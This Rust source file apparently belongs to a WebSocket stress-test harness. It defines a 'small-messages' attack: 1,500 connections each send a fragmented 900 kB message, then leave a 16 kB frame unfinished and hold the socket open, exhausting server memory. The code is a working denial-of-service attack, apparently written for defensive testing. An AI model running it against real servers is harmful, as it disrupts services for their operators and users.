//! Messages of 16 kB, the largest that are not charged as a whole, whose end does not come.

use std::time::Duration;

use harness::opcode;

use super::{Attack, repeat};
use crate::client::frame_head;

pub const ATTACK: Attack = Attack {
    name: "small-messages",
    about: "1,500 connections with a message of 900 kB in two fragments, then all but the end of one of 16 kB",
    start: |target| {
        repeat(target, 1_500, |target, number| {
            let mut socket = target.open(number)?;
            let part =
                |first: u8, length: usize| [&frame_head(first, length)[..], &vec![b'x'; length]].concat();
            socket.write(&part(opcode::TEXT, 10))?;
            socket.write(&part(0x80 | opcode::CONTINUATION, 900_000))?;
            let unfinished = part(0x80 | opcode::TEXT, 16_000);
            socket.write(&unfinished[..15_900])?;
            socket.discard_for(Duration::from_secs(10))?;
            Ok(())
        })
    },
};
